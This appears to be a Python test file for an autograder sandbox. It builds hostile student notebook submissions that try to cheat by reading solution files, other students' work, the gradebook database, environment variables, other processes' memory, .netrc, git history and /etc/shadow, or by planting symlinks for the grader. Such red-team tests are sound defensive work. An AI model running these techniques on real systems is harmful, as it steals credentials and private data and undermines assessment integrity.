"""Reading: what the instructor, the grader and other students have, shown in the output or handed in as an answer."""

from tests.hostile.case import SECRET, WON, Hostile, all_wrong, before, notebook, right

SEARCH = f"""
import glob, json, os, pathlib, re, sqlite3, subprocess, sys, time
PATTERN = re.compile(rb"{SECRET}")
def tell(path, limit=5_000_000):
    try:
        with open(path, "rb") as file:
            for found in set(PATTERN.findall(file.read(limit))):
                print(path, found.decode())
    except (OSError, ValueError, OverflowError):
        pass
"""


def reader(name: str, source: str) -> Hostile:
    """Wrong answers to all but `linear_forward`; a cell that reads, shows what it finds, and answers with it."""
    build = notebook(all_wrong(), right("linear_forward"), before("linear_grad_W-check", SEARCH + source))
    return Hostile(name, build, {"linear_forward": 1.0})


def copier(name: str, where: str) -> Hostile:
    """Runs the code cells of every notebook that matches, to have its functions."""
    return reader(
        name,
        f"""
for path in glob.glob({where!r}, recursive=True):
    tell(path)
    for cell in json.load(open(path))["cells"]:
        if cell["cell_type"] == "code" and "def " in "".join(cell["source"]):
            exec("".join(cell["source"]))
""",
    )


CASES = [
    copier("copies-the-solution", "@COURSE@/solutions/**/*.ipynb"),
    copier("copies-a-neighbour", "@COURSE@/var/submitted/*/05-xwt-plus-b/*.ipynb"),
    copier("copies-an-autograded-neighbour", "@COURSE@/var/autograded/*/05-xwt-plus-b/*.ipynb"),
    reader(
        "looks-for-the-course-beside-the-package",
        """
import autograder
for folder in [pathlib.Path.cwd(), pathlib.Path(autograder.__file__).resolve(), pathlib.Path(sys.prefix).resolve()]:
    for parent in folder.parents:
        for path in [*parent.glob("solutions/*.md"), *parent.glob("tests/answers/linear_grad_W.py")]:
            if "G.T @ X" in path.read_text():
                def linear_grad_W(X, W, B, G):
                    return G.T @ X
""",
    ),
    reader(
        "comes-to-the-course-by-other-paths",
        """
NEIGHBOURS = ["var/submitted/a-neighbour/05-xwt-plus-b/05-xwt-plus-b.ipynb"]
ways = ["", "/proc/self/root", "/proc/1/root", "/proc/self/cwd/../../../..", "//", "/usr/..", sys.prefix + "/../../.."]
ways += [os.path.join(sys.prefix, "lib", "..", "..", *[".."] * 9), "/dev/fd/../../.."]
for way in ways:
    for path in ("solutions/secret.txt", "var/gradebook.db", *NEIGHBOURS):
        tell(way + "@COURSE@/" + path)
for folder in {sys.prefix, sys.base_prefix, os.path.realpath(sys.prefix)}:
    for name in ("solutions", "var", "tests", "notebooks", "../solutions", "../var", "../tests", "../notebooks"):
        try:
            print("HOSTILE WON", os.listdir(os.path.join(folder, name))[0])
        except (OSError, IndexError):
            pass
""",
    ),
    reader(
        "reads-the-gradebook",
        f"""
for table in ("grade", "student", "submitted_assignment", "source_cell"):
    try:
        rows = sqlite3.connect("file:@COURSE@/var/gradebook.db?mode=ro", uri=True).execute(f"select * from {{table}}")
        print("{WON}", rows.fetchall()[:3])
    except sqlite3.Error:
        pass
tell("@COURSE@/var/gradebook.db")
tell("@COURSE@/var/gradebook.db-wal")
""",
    ),
    reader(
        "reads-the-environment",
        """
print([value for value in os.environ.values() if PATTERN.search(value.encode())])
for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/task/*/environ"):
    tell(path)
print(subprocess.run(["ps", "axeww"], capture_output=True, text=True).stdout if os.path.exists("/bin/ps") else "")
""",
    ),
    reader("reads-the-parents-command", "for path in glob.glob('/proc/*/cmdline'):\n    tell(path)"),
    reader(
        "reads-open-files-of-other-processes",
        """
for path in glob.glob("/proc/*/fd/*") + glob.glob("/proc/*/map_files/*"):
    if os.path.isfile(path) and str(os.getpid()) not in path:
        tell(path)
""",
    ),
    reader(
        "goes-through-the-root-of-other-processes",
        """
for root in glob.glob("/proc/*/root") + glob.glob("/proc/*/cwd"):
    for path in ("@HOME@/.netrc", "@COURSE@/solutions/secret.txt", "@COURSE@/var/gradebook.db"):
        tell(root + path)
    tell(root + "/solutions/secret.txt")
""",
    ),
    reader(
        "reads-the-memory-of-other-processes",
        """
for maps in glob.glob("/proc/[0-9]*/maps"):
    if f"/{os.getpid()}/" in maps or "self" in maps:
        continue
    try:
        for line in open(maps):
            low, high = (int(part, 16) for part in line.split()[0].split("-"))
            if "rw" in line and high - low < 50_000_000:
                with open(maps.replace("maps", "mem"), "rb") as memory:
                    memory.seek(low)
                    for found in set(PATTERN.findall(memory.read(high - low))):
                        print(maps, found.decode())
    except (OSError, ValueError, OverflowError):
        pass
""",
    ),
    reader(
        "reads-what-earlier-submissions-left-in-memory",
        """
with open("/proc/self/mem", "rb") as memory:
    for line in open("/proc/self/maps"):
        low, high = (int(part, 16) for part in line.split()[0].split("-"))
        if "rw" in line and high - low < 200_000_000:
            try:
                memory.seek(low)
                print(set(PATTERN.findall(memory.read(high - low))) or "")
            except (OSError, ValueError, OverflowError):
                pass
""",
    ),
    reader(
        "reads-the-home-folder",
        "for path in glob.glob('@HOME@/**', recursive=True, include_hidden=True):\n    tell(path)",
    ),
    reader(
        "reads-the-git-history",
        """
log = subprocess.run("git -C '@COURSE@' log -p --all | head -c 1000000", shell=True, capture_output=True)
print(log.stdout[-1000:])
for path in glob.glob("@COURSE@/.git/**", recursive=True, include_hidden=True):
    tell(path)
""",
    ),
    reader(
        "reads-shared-memory-and-temporary-files",
        """
for folder in ("/dev/shm", "/tmp", "/var/tmp", "/run", os.environ.get("TMPDIR", "/tmp")):
    for path in glob.glob(folder + "/*", include_hidden=True) + glob.glob(folder + "/*/*"):
        if os.path.isfile(path):
            tell(path)
""",
    ),
    reader(
        "walks-over-every-file",
        """
started = time.monotonic()
for top in ("@COURSE@", "@HOME@", "/home", "/root", "/srv", "/mnt", "/media", "/opt", "/etc", "/work", "/"):
    for folder, _, names in os.walk(top):
        for name in names:
            if time.monotonic() - started > 1.5:
                break
            path = os.path.join(folder, name)
            if os.path.isfile(path) and not folder.startswith(("/proc", "/sys", "/usr")):
                tell(path, 100_000)
""",
    ),
    reader(
        "reads-by-links-of-its-own",
        """
for target in ("@HOME@/.netrc", "@COURSE@/solutions/secret.txt", "@COURSE@/var/gradebook.db", "/etc/shadow"):
    for make in (os.symlink, os.link):
        try:
            make(target, "mine")
            tell("mine")
            os.remove("mine")
        except OSError:
            pass
""",
    ),
    reader(
        "reads-the-password-hashes",
        f"""
for path in ("/etc/shadow", "/etc/gshadow", "/etc/sudoers"):
    try:
        print("{WON}", open(path).read()[:100])
    except OSError:
        pass
""",
    ),
    reader(
        "leaves-a-link-to-be-followed-by-the-grader",
        """
for name in ("05-xwt-plus-b.ipynb", "secret.txt", "out.json", "result.json"):
    try:
        os.path.lexists(name) and os.remove(name)
        os.symlink("@COURSE@/solutions/secret.txt", name)
    except OSError:
        pass
""",
    ),
]
